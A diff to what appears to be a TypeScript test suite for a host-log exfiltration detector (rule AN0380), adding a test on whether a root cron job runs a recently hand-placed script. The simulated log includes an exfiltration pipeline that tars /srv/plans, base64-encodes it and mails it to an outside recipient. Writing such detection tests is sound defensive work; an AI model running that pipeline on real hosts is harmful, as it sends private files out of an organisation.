@@ -1,6 +1,7 @@
+import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
-import { atMostAt, firesAt, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
+import { atMostAt, factorsOf, firesAt, scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';
 
 /** Ways around AN0380 of which there is no recording, seen in full: each must alert. */
 const OUT = '203.0.113.66';
@@ -88,4 +89,29 @@ test('a second terminal of a login over one connection is a terminal of the pers
   second.run(`/usr/bin/mail -s hello ${TO}`).run('/usr/sbin/sendmail -i');
   log.submitted('dev', TO, 900);
   atMostAt(await scanLog(log), 'informational');
+});
+
+test("a job whose script somebody logged in put into a system place lately is nobody's package", async () => {
+  const factors = async (byHand: boolean) => {
+    const log = new HostLog();
+    log.deliver();
+    log
+      .shell('ops')
+      .run('/usr/bin/vim notes')
+      .write(byHand ? '/usr/local/sbin/report' : '/home/ops/notes');
+    log.wait(HOUR);
+    const script = log.cron('root', '/usr/local/sbin/report').run('/usr/local/sbin/report', { by: '/bin/sh' });
+    script.pipeline('/usr/bin/tar cz /srv/plans', '/usr/bin/base64', `/usr/sbin/sendmail ${TO}`);
+    log.submitted('root', TO, 900_000);
+    return factorsOf(storyOf(await scanLog(log), 'AN0380'));
+  };
+  const [own, packaged] = ["job of no package: a command line or a user's script", 'job of the system or a package'];
+  assert.deepEqual(
+    (await factors(true)).filter(each => each === own || each === packaged),
+    [own],
+  );
+  assert.deepEqual(
+    (await factors(false)).filter(each => each === own || each === packaged),
+    [packaged],
+  );
 });
